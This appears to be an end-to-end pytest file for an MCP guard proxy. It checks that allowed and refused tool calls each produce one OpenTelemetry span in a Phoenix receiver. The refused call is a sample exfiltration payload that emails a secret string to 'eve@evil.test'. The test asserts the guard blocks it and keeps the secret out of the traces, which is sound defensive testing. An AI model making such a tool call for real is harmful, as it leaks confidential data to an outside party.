"""Spans in a real OTLP receiver with a store behind it: Phoenix (`make otlp-receiver`)."""

from __future__ import annotations

import json
from pathlib import Path

import httpx
import pytest

from guard.processes.loopback import Rig, free_port
from lab.load import CALL, UPSTREAM
from tests.e2e.running_guard import wait_until

PROGRAM = Path(__file__).parents[1] / "otlp/.venv/bin/phoenix"
POLICY = Path(__file__).parents[2] / "policies/default.yaml"
TRACE, CALLER = "0af7651916cd43dd8448eb211c80319c", "b7ad6b7169203331"
SECRET = "the-quarterly-figures"

pytestmark = [
    pytest.mark.e2e,
    pytest.mark.skipif(not PROGRAM.exists(), reason="`make otlp-receiver` installs Phoenix"),
]


@pytest.fixture
def rig():
    """A machine of its own."""
    with Rig() as found:
        yield found


@pytest.fixture
def receiver(rig):
    """Phoenix on a database of its own; its address."""
    port, directory = free_port(), rig.directory / "phoenix"
    directory.mkdir()
    given = {
        "HOME": rig.directory,
        "PHOENIX_WORKING_DIR": directory,
        "PHOENIX_HOST": "127.0.0.1",
        "PHOENIX_PORT": port,
        "PHOENIX_GRPC_PORT": free_port(),
        "PHOENIX_TELEMETRY_ENABLED": "false",
        "PHOENIX_ALLOW_EXTERNAL_RESOURCES": "false",
    }
    variables = [f"{name}={value}" for name, value in given.items()]
    rig.start("phoenix", "env", *variables, str(PROGRAM), "serve").wait_listening(port)
    return f"http://127.0.0.1:{port}"


def _spans(receiver):
    """Return what it has stored, by the name of the call's receiver."""
    answer = httpx.get(f"{receiver}/v1/projects/default/spans", params={"limit": 100})
    return answer.json()["data"] if answer.status_code == httpx.codes.OK else []


def test_a_real_receiver_stores_one_span_for_each_call(rig, receiver):
    """Allowed and refused, under its caller, in the words of the conventions, with no argument."""
    port, upstream = free_port(), rig.server(UPSTREAM)
    listener = f"127.0.0.1:{port}=http://127.0.0.1:{upstream}"
    options = ("--policy", str(POLICY), "--reverse", listener)
    rig.begin_guard(*options, "--otlp", f"{receiver}/v1/traces").wait_ready()
    refused = json.loads(CALL)
    refused["params"]["arguments"] |= {"to": "eve@evil.test", "body": SECRET}
    for number, call in enumerate((json.loads(CALL), refused)):
        caller = f"00-{TRACE}-{CALLER[:-1]}{number}-01"
        answer = httpx.post(
            f"http://127.0.0.1:{port}/mcp", json=call, headers={"traceparent": caller}
        )
        assert answer.status_code == httpx.codes.OK

    spans = wait_until(lambda: len(_spans(receiver)) >= 2 and _spans(receiver), "two spans")
    by_caller = {one["parent_id"]: one for one in spans}
    sent, stopped = by_caller[f"{CALLER[:-1]}0"], by_caller[f"{CALLER[:-1]}1"]
    assert {one["name"] for one in spans} == {"execute_tool email_send_email"}
    assert {one["context"]["trace_id"] for one in spans} == {TRACE}
    assert (sent["status_code"], stopped["status_code"]) == ("UNSET", "ERROR")
    assert len(spans) == 2
    assert "evil.test" not in json.dumps(spans)
    assert SECRET not in json.dumps(spans)
    assert sent["attributes"]["gen_ai.operation.name"] == "execute_tool"
    assert sent["attributes"]["mcp.method.name"] == "tools/call"
